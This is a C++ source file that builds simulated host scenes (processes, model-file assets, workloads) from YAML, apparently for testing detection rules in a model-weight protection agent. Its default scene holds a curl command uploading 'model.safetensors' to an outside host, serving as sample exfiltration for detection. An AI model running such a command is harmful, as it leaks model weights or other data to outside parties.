#include "agent/author/scene.h"

#include <absl/time/time.h>
#include <fmt/format.h>

#include <charconv>

#include "agent/author/value_reader.h"

namespace tensorwarden::author {

// What `host` says of one process, one asset, one workload.
struct ProcessFacts {
  uint32_t pid = 0;
  std::string name;
  ProcessExec exec;
  std::string role;
  std::string workload;
};

struct AssetFacts {
  std::string id;
  AssetFound found;
};

struct WorkloadFacts {
  WorkloadSpec spec;
  std::string role;
};

template <class V>
void Members(V& v, ProcessFacts& e) {
  v("pid", e.pid);
  v("name", e.name);
  v("role", e.role);
  v("workload", e.workload);
  Members(v, e.exec);
}

template <class V>
void Members(V& v, AssetFacts& e) {
  v("id", e.id);
  v("path", e.found.path);
  v("name", e.found.name);
  v("class", e.found.klass);
  v("format", e.found.format);
  v("found_by", e.found.found_by, ValueOfField{"asset.found_by"});
  v("size", e.found.size, Bytes{});
  v("owner_uid", e.found.owner_uid);
}

template <class V>
void Members(V& v, WorkloadFacts& e) {
  v("name", e.spec.name);
  v("role", e.role);
  v("exe", e.spec.exe);
  v("cgroup", e.spec.cgroup);
  v("unit", e.spec.unit);
  v("uid", e.spec.uid);
  v("serving_ports", e.spec.serving_ports);
}

namespace {

using rules::YamlNode;

constexpr uint64_t kDevice = 8ull << 20 | 1;
constexpr uint64_t kDefaultSize = 1ull << 30;
constexpr const char* kDefaultTime = "2026-01-01T00:00:00Z";

ValueReader Reader(Scene& scene, rules::Diagnostics& diagnostics) {
  return ValueReader(scene, diagnostics, [](const FileKey&) { return std::nullopt; });
}

std::string FileName(const std::string& path) { return path.substr(path.rfind('/') + 1); }

Event Known(EventBody body, ProcessKey process = {}) {
  Event event;
  event.origin.ktime_ns = Scene::kStartNs;
  event.origin.process = process;
  event.body = std::move(body);
  return event;
}

}  // namespace

// Start times are never equal, so that a pid that is used again would show.
ProcessKey KeyOfPid(uint32_t pid) { return pid == 0 ? ProcessKey{} : ProcessKey{pid, 1'000'000'000 + uint64_t{pid}}; }

bool Scene::Read(const YamlNode* host) {
  AgentStart start{.version = TENSORWARDEN_VERSION, .hostname = "host", .boot_id = "test"};
  std::string time = kDefaultTime;
  const YamlNode* processes = nullptr;
  const YamlNode* assets = nullptr;
  bool ok = true;
  if (host != nullptr) {
    ValueReader reader = Reader(*this, diagnostics_);
    if (host->kind != YamlNode::Kind::kMapping) return reader.Fail(*host, "'host' must be {processes: [...], ...}");
    ok = reader.KnownKeys(*host, {"name", "time", "processes", "assets", "workloads"});
    if (const YamlNode* node = ValueOf(*host, "name")) ok = reader.Read(*node, start.hostname) && ok;
    if (const YamlNode* node = ValueOf(*host, "time")) ok = reader.Read(*node, time) && ok;
    processes = ValueOf(*host, "processes");
    assets = ValueOf(*host, "assets");
    if (const YamlNode* node = ValueOf(*host, "workloads")) ok = ReadWorkloads(*node) && ok;
  }
  absl::Time begin;
  std::string error;
  if (!absl::ParseTime(absl::RFC3339_full, time, &begin, &error)) {
    return Reader(*this, diagnostics_).Fail(*ValueOf(*host, "time"), "'time' must be as in 2026-01-01T12:00:00Z");
  }
  start.realtime_offset_ns = absl::ToUnixNanos(begin) - static_cast<int64_t>(kStartNs);
  setup_.push_back(Known(std::move(start)));
  if (processes != nullptr) {
    ok = ReadProcesses(*processes) && ok;
  } else {
    AddDefaultProcesses();
  }
  if (assets != nullptr) {
    ok = ReadAssets(*assets) && ok;
  } else {
    AddDefaultAsset();
  }
  return ok;
}

bool Scene::ReadProcesses(const YamlNode& node) {
  if (node.kind != YamlNode::Kind::kSequence) return Reader(*this, diagnostics_).Fail(node, "want a list of processes");
  bool ok = true;
  for (const YamlNode& item : node.items) ok = ReadProcess(item) && ok;
  return ok;
}

bool Scene::ReadProcess(const YamlNode& node) {
  ProcessFacts facts;
  ValueReader reader = Reader(*this, diagnostics_);
  if (!reader.Struct(node, facts)) return false;
  if (facts.name.empty()) facts.name = facts.exec.comm.empty() ? FileName(facts.exec.path) : facts.exec.comm;
  if (facts.name.empty()) return reader.Fail(node, "a process needs a name");
  if (processes_.contains(facts.name)) return reader.Fail(node, "there is a process of this name already");
  if (facts.pid == 0) facts.pid = 1000 + static_cast<uint32_t>(processes_.size());
  if (facts.exec.comm.empty()) facts.exec.comm = facts.name.substr(0, 15);
  if (facts.exec.path.empty()) facts.exec.path = "/usr/bin/" + facts.name;
  if (facts.exec.args.empty()) facts.exec.args = {facts.name};
  const YamlNode* role_node = ValueOf(node, "role");
  if (role_node != nullptr || !facts.workload.empty()) {
    const absl::StatusOr<Role> role = ParseRole(facts.role.empty() ? "none" : facts.role);
    if (!role.ok()) return reader.Fail(*role_node, std::string(role.status().message()));
    WorkloadSpec spec;
    spec.name = facts.workload.empty() ? facts.name : facts.workload;
    spec.role = *role;
    spec.exe = facts.exec.path;
    workloads_.push_back(std::move(spec));
  }
  AddProcess(facts.pid, facts.name, std::move(facts.exec));
  return true;
}

bool Scene::ReadAssets(const YamlNode& node) {
  if (node.kind != YamlNode::Kind::kSequence) return Reader(*this, diagnostics_).Fail(node, "want a list of assets");
  bool ok = true;
  for (const YamlNode& item : node.items) ok = ReadAsset(item) && ok;
  return ok;
}

bool Scene::ReadAsset(const YamlNode& node) {
  AssetFacts facts;
  facts.found.size = kDefaultSize;
  ValueReader reader = Reader(*this, diagnostics_);
  if (!reader.Struct(node, facts)) return false;
  if (facts.id.empty()) facts.id = facts.found.name.empty() ? FileName(facts.found.path) : facts.found.name;
  if (facts.id.empty()) return reader.Fail(node, "an asset needs an id");
  if (files_.contains(facts.id)) return reader.Fail(node, "there is an asset of this id already");
  AddAsset(facts.id, std::move(facts.found));
  return true;
}

bool Scene::ReadWorkloads(const YamlNode& node) {
  if (node.kind != YamlNode::Kind::kSequence) return Reader(*this, diagnostics_).Fail(node, "want a list of workloads");
  bool ok = true;
  for (const YamlNode& item : node.items) ok = ReadWorkload(item) && ok;
  return ok;
}

bool Scene::ReadWorkload(const YamlNode& node) {
  WorkloadFacts facts;
  ValueReader reader = Reader(*this, diagnostics_);
  if (!reader.Struct(node, facts)) return false;
  const absl::StatusOr<Role> role = ParseRole(facts.role);
  if (!role.ok()) return reader.Fail(node, std::string(role.status().message()));
  facts.spec.role = *role;
  workloads_.push_back(std::move(facts.spec));
  return true;
}

void Scene::AddDefaultProcesses() {
  ProcessExec shell{.uid = 1000, .gid = 1000, .login_uid = 1000, .comm = "bash", .path = "/usr/bin/bash"};
  shell.args = {"bash", "-l"};
  AddProcess(100, "bash", shell);
  ProcessExec curl{.parent = KeyOfPid(100), .uid = 1000, .gid = 1000, .login_uid = 1000};
  curl.comm = "curl";
  curl.path = "/usr/bin/curl";
  curl.args = {"curl", "-T", "model.safetensors", "https://example.com"};
  AddProcess(200, "curl", curl);
  first_process_ = KeyOfPid(200);
}

void Scene::AddDefaultAsset() {
  AddAsset("model", AssetFound{.path = "/srv/models/model.safetensors", .format = "safetensors", .size = kDefaultSize});
}

void Scene::AddProcess(uint32_t pid, const std::string& name, ProcessExec exec) {
  const ProcessKey key = KeyOfPid(pid);
  if (processes_.empty()) first_process_ = key;
  processes_.emplace(name, key);
  setup_.push_back(Known(ProcessSnapshot{.exec = std::move(exec)}, key));
}

void Scene::AddAsset(const std::string& id, AssetFound found) {
  if (found.path.empty()) found.path = "/srv/models/" + id;
  if (found.name.empty()) found.name = id;
  if (found.klass.empty()) found.klass = "model";
  if (found.found_by.empty()) found.found_by = "config";
  found.file = NewFile(found.path);
  files_.emplace(id, found.file);
  if (!first_asset_) first_asset_ = found.file;
  setup_.push_back(Known(std::move(found)));
}

FileKey Scene::NewFile(const std::string& name) {
  const FileKey key{kDevice, 1000 + files_.size(), 1};
  files_.emplace(name, key);
  return key;
}

AgentConfig Scene::Config() const {
  AgentConfig config;
  config.host.workloads = workloads_;
  return config;
}

std::optional<ProcessKey> Scene::Process(std::string_view word) const {
  if (word == "none") return ProcessKey{};
  if (const auto at = processes_.find(word); at != processes_.end()) return at->second;
  uint32_t pid = 0;
  const auto parsed = std::from_chars(word.data(), word.data() + word.size(), pid);
  if (word.empty() || parsed.ec != std::errc() || parsed.ptr != word.data() + word.size()) return std::nullopt;
  return KeyOfPid(pid);
}

std::optional<FileKey> Scene::File(std::string_view word, bool may_be_new) {
  if (word == "none") return FileKey{};
  if (const auto at = files_.find(word); at != files_.end()) return at->second;
  if (word.empty() || (!may_be_new && word[0] != '/')) return std::nullopt;
  return NewFile(std::string(word));
}

std::vector<std::string_view> Scene::ProcessNames() const {
  std::vector<std::string_view> names;
  for (const auto& [name, key] : processes_) names.push_back(name);
  return names;
}

std::vector<std::string_view> Scene::FileNames() const {
  std::vector<std::string_view> names;
  for (const auto& [name, key] : files_) names.push_back(name);
  return names;
}

}  // namespace tensorwarden::author
